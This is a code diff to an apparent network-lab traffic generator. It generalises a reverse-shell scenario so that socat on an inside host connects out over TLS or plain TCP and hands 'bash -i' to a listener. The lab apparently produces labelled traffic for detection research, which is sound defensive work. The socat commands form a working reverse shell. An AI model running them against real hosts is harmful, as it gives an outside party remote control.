@@ -450,23 +450,28 @@ def reverse_ssh_stunnel(lab: Lab, s: Session) -> None:
                                  ssh_client(lab, "-tt", "-p", str(fwd), "root@127.0.0.1")), f"{s.id}-use")
 
 
-def reverse_shell_tls(lab: Lab, s: Session) -> None:
-    """A reverse shell over TLS: the inside host connects out with socat and hands over bash; the
-    outside side types commands into it."""
+def reverse_shell(lab: Lab, s: Session) -> None:
+    """A reverse shell: the inside host connects out with socat, over TLS (`tls`, the default) or
+    plain TCP, and hands over bash; the outside side types commands into it."""
     client, server = lab.hosts()
     p = s.params
     port = int(p["port"])  # type: ignore[call-overload]
+    tls = bool(p.get("tls", True))
     lab.label(Conversation(s.id, s.scenario, s.label, client, server, port))
-    cert, key = lab.cert(s)
+    if tls:
+        cert, key = lab.cert(s)
+        listen = f"OPENSSL-LISTEN:{port},bind={server},reuseaddr,cert={cert},key={key},verify=0"
+        connect = f"OPENSSL:{server}:{port},bind={client},verify=0"
+    else:
+        listen = f"TCP-LISTEN:{port},bind={server},reuseaddr"
+        connect = f"TCP:{server}:{port},bind={client}"
     if not lab.sleep_until(s.start):
         return
     dur = min(float(p["length"]), lab.remaining() - 5)  # type: ignore[arg-type]
-    listener = ["socat", "STDIO",
-                f"OPENSSL-LISTEN:{port},bind={server},reuseaddr,cert={cert},key={key},verify=0"]
-    lab.topo.spawn("out", typist(lab, dur, int(p["seed"]), listener), f"{s.id}-listener")  # type: ignore[call-overload]
+    lab.topo.spawn("out", typist(lab, dur, int(p["seed"]), ["socat", "STDIO", listen]),  # type: ignore[call-overload]
+                   f"{s.id}-listener")
     time.sleep(1.0)
-    lab.topo.spawn("in", ["socat", f"OPENSSL:{server}:{port},bind={client},verify=0",
-                          "EXEC:bash -i,pty,stderr,setsid,sigint,sane"], f"{s.id}-shell")
+    lab.topo.spawn("in", ["socat", connect, "EXEC:bash -i,pty,stderr,setsid,sigint,sane"], f"{s.id}-shell")
 
 
 def reverse_wstunnel(lab: Lab, s: Session) -> None:
